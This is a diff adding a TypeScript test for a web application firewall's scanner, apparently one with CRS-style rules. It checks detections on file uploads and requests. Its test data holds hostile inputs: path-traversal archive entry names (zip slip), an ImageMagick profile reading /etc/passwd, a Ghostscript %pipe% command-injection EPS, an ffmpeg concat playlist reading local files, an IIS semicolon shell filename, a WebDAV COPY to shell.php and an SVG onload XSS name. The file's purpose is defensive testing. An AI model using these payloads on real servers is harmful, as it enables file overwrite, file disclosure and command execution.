@@ -259,6 +259,111 @@ describe("bodies", () => {
     expect(raw("image/png", "\u0089PNG\r\n\u001a\n binary cposix")).toEqual([]);
   });
 
+  it("reads what file-handling servers act on: archive entries, media converters' instructions, IIS names", () => {
+    const raw = (type: string, content: string, headers: Array<[string, string]> = []) =>
+      where(req({ method: "POST", headers: [["host", "app.example"], ...headers], body: body(type, content) }));
+    // Tar and zip entry names are where an unpacking server writes (zip slip, VMware's uploadova).
+    const tarName = "../../../../usr/lib/vmware/h5ngc.war/resources/x41.jsp";
+    const tar = `${tarName}${"\u0000".repeat(100 - tarName.length)}0000644\u00000000000\u0000`;
+    expect(upload("x41.tar", "text/plain", tar)).toEqual(
+      expect.arrayContaining([
+        "930110@body:multipart.file.content.entry.filename",
+        "944140@body:multipart.file.content.entry.filename",
+      ]),
+    );
+    const zip = (name: string) =>
+      `PK\u0003\u0004\u0014\u0000\u0000\u0000\u0008\u0000${"\u0000".repeat(16)}${String.fromCharCode(name.length)}\u0000\u0000\u0000${name}data`;
+    expect(upload("theme.zip", "application/zip", zip("../../../var/www/html/x.php"))).toContain(
+      "933110@body:multipart.file.content.entry.filename",
+    );
+    expect(upload("photos.zip", "application/zip", zip("Holiday 2024/IMG_0001.jpg"))).toEqual([]);
+    // Media tools' instructions: ImageMagick's PNG profile, Ghostscript's pipe device, ffmpeg's playlist.
+    expect(
+      upload("a.png", "image/png", "\u0089PNG\r\n\u001a\n\u0000\u0000\u0000\u0013tEXtprofile\u0000/etc/passwd\u001c"),
+    ).toContain("930120@body:multipart.file.content.profile");
+    expect(
+      upload(
+        "a.eps",
+        "application/postscript",
+        "%!PS-Adobe-3.0\nmark /OutputFile (%pipe%id > /tmp/x) currentdevice putdeviceprops\n",
+      ),
+    ).toEqual(expect.arrayContaining([expect.stringMatching(/^932\d+@body:multipart\.file\.content\.ps$/)]));
+    expect(
+      upload(
+        "clip.avi",
+        "video/x-msvideo",
+        "#EXTM3U\n#EXTINF:10.0,\nconcat:http://x.example/h.m3u8|file:///etc/passwd\n",
+      ),
+    ).toContain("931110@body:multipart.file.content.playlist");
+    expect(
+      upload("live.m3u8", "application/vnd.apple.mpegurl", "#EXTM3U\n#EXTINF:6.0,\nhttps://cdn.example/seg1.ts\n"),
+    ).toEqual([]);
+    expect(
+      upload(
+        "print.ps",
+        "application/postscript",
+        "%!PS-Adobe-3.0\n/Helvetica findfont 12 scalefont setfont\nshowpage\n",
+      ),
+    ).toEqual([]);
+    // IIS runs a name up to its `;`, and ASP.NET scripts are server code as JSP is.
+    expect(upload("shell.asp;.jpg", "image/jpeg", "x")).toContain("944140@body:multipart.file.filename");
+    expect(upload("handler.ashx", "text/plain", "x")).toContain("944140@body:multipart.file.filename");
+    // WebDAV's Destination names the file a MOVE or COPY makes.
+    expect(
+      where(
+        req({
+          method: "COPY",
+          headers: [
+            ["host", "a"],
+            ["destination", "http://a/dav/shell.php"],
+          ],
+        }),
+      ),
+    ).toContain("933110@header:destination");
+    expect(
+      where(
+        req({
+          method: "MOVE",
+          headers: [
+            ["host", "a"],
+            ["destination", "http://a/dav/Q3 report (final).docx"],
+          ],
+        }),
+      ),
+    ).toEqual([]);
+    // A secret's template or documentation is no secret; its backup is.
+    expect(where(req({ path: "/blob/main/.env.example", rawPath: "/blob/main/.env.example" }))).toEqual([]);
+    expect(where(req({ path: "/repo/docs/web.config.md", rawPath: "/repo/docs/web.config.md" }))).toEqual([]);
+    expect(where(req({ path: "/.env.bak", rawPath: "/.env.bak" }))).toContain("930130@path");
+    expect(where(req({ path: "/appsettings.json", rawPath: "/appsettings.json" }))).toContain("930130@path");
+    // Sizes in headers, Base64 gzip, an archive type, an HTML page sent as bytes, Drive's related upload.
+    expect(
+      where(
+        req({
+          headers: [
+            ["host", "a"],
+            ["x-upload-content-length", "2147483648"],
+          ],
+        }),
+      ),
+    ).toEqual([]);
+    expect(where(req({ query: [["n", "2147483648"]] }))).toContain("942220@query:n");
+    expect(
+      raw("application/json", JSON.stringify({ _attachments: { "a.tgz": { data: "H4sIAAAAAAAAA5T9UR85BrW" } } })),
+    ).toEqual([]);
+    expect(raw("application/java-archive", "PK\u0003\u0004 META-INF/ /etc/passwd \u0000")).toEqual([]);
+    expect(
+      raw("application/octet-stream", '<!DOCTYPE html><html><head><link href="../../assets/a.css"></head></html>'),
+    ).toEqual([]);
+    const related = (json: string) =>
+      raw(
+        'multipart/related; boundary="b"',
+        `--b\r\nContent-Type: application/json; charset=UTF-8\r\n\r\n${json}\r\n--b\r\nContent-Type: text/plain\r\n\r\nhello\r\n--b--\r\n`,
+      );
+    expect(related('{"name": "extrato junho (export).csv", "parents": ["1fTSd"]}')).toEqual([]);
+    expect(related('{"name": "<svg onload=alert(1)>.png"}')).toContain("941110@body:json.part1.name");
+  });
+
   it("scans a GraphQL document's string arguments as values of their own", () => {
     const gql = (query: string) =>
       where(req({ method: "POST", body: body("application/json", JSON.stringify({ query })) }));
